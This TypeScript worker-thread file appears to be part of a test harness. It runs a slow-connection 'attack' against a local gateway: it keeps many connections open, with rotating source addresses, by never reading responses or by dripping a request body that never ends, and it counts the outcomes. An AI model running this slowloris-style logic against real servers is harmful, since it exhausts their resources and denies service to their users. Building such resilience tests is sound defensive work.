import { connect } from 'node:net';
import { parentPort, workerData } from 'node:worker_threads';

// A separate thread, so that the attack does not delay the measurement of players' requests.

export interface HoldOptions {
  readonly port: number;
  /** Request heads, one connection for each, from the addresses in turn. */
  readonly heads: readonly (readonly string[])[];
  readonly addresses: readonly string[];
  /** Reads no response, so that the gateway must buffer it; otherwise sends a body that never ends. */
  readonly silent: boolean;
}

/** Number of connections or requests by result. */
export type Counts = Record<string, number>;

/** Delay before a closed connection is reopened. */
const REOPEN_MS = 3_000;
const DRIP_MS = 2_000;
/** Time after which a silent connection is reopened, because it does not notice when it is closed. */
const SILENT_MS = 15_000;

const { port, heads, addresses, silent } = workerData as HoldOptions;
const counts: Counts = {};
const count = (result: string) => {
  counts[result] = (counts[result] ?? 0) + 1;
};

function open(index: number): void {
  const localAddress = addresses[index % addresses.length]!;
  const socket = connect({ host: '127.0.0.1', port, localAddress });
  count('opened');
  socket.write(`${heads[index]!.join('\r\n')}\r\n\r\n${silent ? '' : '{'}`);
  const drip = silent ? undefined : setInterval(() => socket.write(' '), DRIP_MS);
  if (silent) socket.pause().setTimeout(SILENT_MS, () => socket.destroy());
  else socket.once('data', (response) => count(String(response).slice(9, 12)));
  socket.on('error', () => count('reset'));
  socket.on('close', () => {
    clearInterval(drip);
    setTimeout(open, REOPEN_MS, index);
  });
}

for (let index = 0; index < heads.length; index++) open(index);
setInterval(() => parentPort?.postMessage(counts), 1_000);
